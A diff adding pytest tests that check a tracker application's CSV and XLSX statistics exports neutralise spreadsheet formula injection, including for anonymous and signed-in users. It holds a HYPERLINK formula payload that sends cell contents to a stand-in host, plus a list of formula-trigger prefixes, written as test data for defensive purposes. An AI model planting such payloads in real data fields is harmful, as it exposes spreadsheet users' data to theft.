@@ -2,6 +2,7 @@
 
 import csv
 import io
+from decimal import Decimal
 from urllib.parse import unquote
 
 import pytest
@@ -9,7 +10,8 @@ from openpyxl import load_workbook
 from sqlalchemy import select
 
 from tracker.demo import load_demo_data
-from tracker.models import Category, Participation
+from tracker.models import Campaign, Category, Participation
+from tracker.stats.export import Table, to_csv, to_xlsx
 from tracker.stats.queries import BREAKDOWN_ROWS_SHOWN
 
 YEAR_2019 = {"from": "2019-01-01", "to": "2019-12-31"}
@@ -173,3 +175,89 @@ def test_page_shows_the_top_rows_and_the_exports_hold_every_row(
     sections = _csv_sections(client.get("/stats/export.csv", query_string=YEAR_2019).data)
     assert len(sections["竞赛获奖"]) == count + 1
     assert len(sections["按组织"]) == count + 1
+
+
+# The finding: an organisation with this name, hosting a public event, became a live formula.
+FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'
+FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
+PARTICIPANT_SHEETS = ["参与者（按活动数）", "参与者（按时长）"]
+
+
+@pytest.fixture
+def hostile_export(db, make_event, make_organization, make_location, make_category, make_person):
+    """A public event whose every name starts with `prefix`: hosts, category, campaign, place,
+    city, award, person and the person's organisation. Returns the export's query string."""
+
+    def make(prefix: str) -> dict:
+        def name(label: str) -> str:
+            return f"{prefix}{FORMULA[1:]}{label}"
+
+        host = make_organization(name=name("主办"))
+        person = make_person(name=name("人员"), organization=make_organization(name=name("单位")))
+        event = make_event(
+            title=name("活动"),
+            hosts=[host],
+            stops=[make_location(name=name("地点"), city=name("城市"))],
+            people=[person],
+            category=make_category(name_zh=name("类别")),
+            campaign=Campaign(name=name("专项"), theme=name("主题")),
+        )
+        event.participations.append(
+            Participation(organization=host, award=name("奖项"), rank=1, position=1)
+        )
+        db.session.commit()
+        return {**YEAR_2019, "organization": host.id}
+
+    return make
+
+
+def _csv_cells(data: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+
+
+@pytest.mark.parametrize("signed_in", [False, True], ids=["anonymous", "signed-in"])
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
+def test_no_export_cell_starts_a_formula(
+    client, hostile_export, make_user, sign_in, prefix, signed_in
+):
+    if signed_in:
+        sign_in(make_user())
+    query = hostile_export(prefix)
+    neutral = "'" + prefix + FORMULA[1:]
+    sheets_with_names = ["说明", "按类别", "按组织", "按地点", "按专项活动", "竞赛获奖"]
+    sheets = ANONYMOUS_SHEETS + (PARTICIPANT_SHEETS if signed_in else [])
+    if signed_in:
+        sheets_with_names += PARTICIPANT_SHEETS
+
+    response = client.get("/stats/export.csv", query_string=query)
+    assert not [cell for cell in _csv_cells(response.data) if cell.startswith(prefix)]
+    sections = _csv_sections(response.data)
+    assert list(sections) == sheets
+    for title in sheets_with_names:
+        assert any(cell.startswith(neutral) for row in sections[title] for cell in row), title
+    assert dict(row[:2] for row in sections["总计"][1:])["活动数"] == "1"
+
+    workbook = load_workbook(io.BytesIO(client.get("/stats/export.xlsx", query_string=query).data))
+    assert workbook.sheetnames == sheets
+    # XML reads a carriage return in a cell's text back as a line feed.
+    prefix, neutral = prefix.replace("\r", "\n"), neutral.replace("\r", "\n")
+    for sheet in workbook.worksheets:
+        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert all(cell.data_type != "f" for cell in cells), sheet.title
+        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+        assert not [text for text in texts if text.startswith(prefix)], sheet.title
+        if sheet.title in sheets_with_names:
+            assert any(text.startswith(neutral) for text in texts), sheet.title
+    totals = {row[0]: row[1] for row in workbook["总计"].iter_rows(min_row=2, values_only=True)}
+    assert totals["活动数"] == 1
+
+
+def test_numbers_stay_numbers_and_only_text_is_neutralised():
+    tables = [Table("表", ["-列", "数"], [["-3", -3], ["@甲", Decimal("-1.50")], ["乙", 0]])]
+
+    rows = list(csv.reader(io.StringIO(to_csv(tables).decode("utf-8-sig"))))
+    workbook = load_workbook(io.BytesIO(to_xlsx(tables)))
+
+    assert rows[1:] == [["'-列", "数"], ["'-3", "-3"], ["'@甲", "-1.50"], ["乙", "0"]]
+    values = list(workbook["表"].iter_rows(values_only=True))
+    assert values == [("'-列", "数"), ("'-3", -3), ("'@甲", -1.5), ("乙", 0)]
